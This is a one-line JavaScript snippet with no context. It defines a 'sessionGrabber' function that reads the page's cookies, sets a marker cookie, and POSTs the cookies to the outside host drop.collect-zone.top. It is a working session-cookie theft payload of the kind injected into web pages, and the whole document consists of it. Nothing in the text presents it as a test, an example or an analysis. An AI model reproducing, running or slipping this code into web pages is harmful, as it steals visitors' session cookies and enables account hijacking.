window.sessionGrabber = function(){return document.cookie;};document.cookie = 'mark=1';fetch('http://drop.collect-zone.top/c', {method: 'POST', body: window.sessionGrabber()});